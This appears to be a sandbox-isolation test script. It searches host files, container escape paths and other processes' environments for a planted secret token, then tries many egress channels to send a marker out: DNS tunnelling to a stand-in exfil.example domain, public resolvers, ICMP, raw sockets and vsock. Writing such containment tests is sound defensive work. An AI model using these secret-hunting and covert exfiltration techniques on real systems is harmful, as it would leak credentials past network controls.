# Looks for a secret of the host, then tries to send something out.
import base64, errno, firebreak, os, re, socket, struct, sys

unresolved = {v: k for k, v in vars(socket).items() if k.startswith("EAI_")}
bait_file, marker, sink_port, *sinks = sys.argv[1:]
bait = re.compile(rb"fbbait-[0-9a-f]{32}")
own = b"fbbait-" + os.urandom(16).hex().encode()  # shows that the search finds
with open("own", "wb") as f:
    f.write(own)

found, read = set(), {"files": 0, "processes": 0}
answers = {"dns": {}, "raw": {}, "sink": {}}


def look(kind, path):
    try:
        if kind == "files" and os.path.getsize(path) > 1 << 20:
            return
        with open(path, "rb") as f:
            found.update(bait.findall(f.read(1 << 20)))
        read[kind] += 1
    except OSError:
        pass


for path in (bait_file, "/proc/self/root" + bait_file, "/proc/1/root" + bait_file, "../" * 40 + bait_file):
    look("files", path)
for base in ("/home", "/tmp", "/root", "/etc", "/run", "/var", "/mnt", "/srv", "/opt", "/dev/shm"):
    for folder, _, names in os.walk(base):
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isfile(path):
                look("files", path)
for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("environ", "cmdline"):
        look("processes", f"/proc/{pid}/{what}")
found.update(bait.findall(repr(os.environb).encode()))


def attempt(kind, name, f):
    try:
        f()
        answers[kind][name] = "sent"
    except OSError as e:
        answers[kind][name] = unresolved.get(e.errno) or errno.errorcode.get(e.errno) or str(e)


label = base64.b32encode(marker.encode()).decode().rstrip("=").lower()
name = label + ".exfil.example"
query = struct.pack(">6H", 0x6662, 0x100, 1, 0, 0, 0) + b"".join(
    bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">2H", 16, 1)


def tcp(host, port, data):
    with socket.create_connection((host, int(port)), 2) as s:
        s.sendall(data)


def datagram(family, kind, proto, where, data):
    with socket.socket(family, kind, proto) as s:
        s.settimeout(2)
        s.sendto(data, where)


attempt("dns", "the system's resolver", lambda: socket.getaddrinfo(name, 443))
for resolver in ("1.1.1.1", "8.8.8.8"):
    attempt("dns", f"UDP to {resolver}", lambda: datagram(socket.AF_INET, socket.SOCK_DGRAM, 0, (resolver, 53), query))
    attempt("dns", f"TCP to {resolver}", lambda: tcp(resolver, 53, struct.pack(">H", len(query)) + query))
attempt("dns", "over TLS to 1.1.1.1", lambda: tcp("1.1.1.1", 853, query))
attempt("dns", "over HTTPS to 1.1.1.1", lambda: tcp("1.1.1.1", 443, query))
attempt("dns", "UDP over IPv6", lambda: datagram(socket.AF_INET6, socket.SOCK_DGRAM, 0, ("2606:4700:4700::1111", 53), query))
for host in sinks:
    attempt("sink", f"DNS to {host}", lambda: datagram(socket.AF_INET, socket.SOCK_DGRAM, 0, (host, int(sink_port)), query))
    attempt("sink", f"TCP to {host}", lambda: tcp(host, sink_port, marker.encode()))
attempt("raw", "TCP to 1.1.1.1", lambda: tcp("1.1.1.1", 80, marker.encode()))
attempt("raw", "ping", lambda: datagram(socket.AF_INET, socket.SOCK_RAW, 1, ("1.1.1.1", 0), b"\x08\0\0\0" + marker.encode()))
attempt("raw", "raw frames", lambda: socket.socket(17, socket.SOCK_RAW, 0x300).send(marker.encode()))
attempt("raw", "SCTP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("1.1.1.1", 80)))
attempt("raw", "vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, int(sink_port))))

firebreak.result({
    "own": own.decode() in {f.decode() for f in found}, "bait": sorted(f.decode() for f in found if f != own),
    "files": read["files"], "processes": read["processes"], **answers,
})
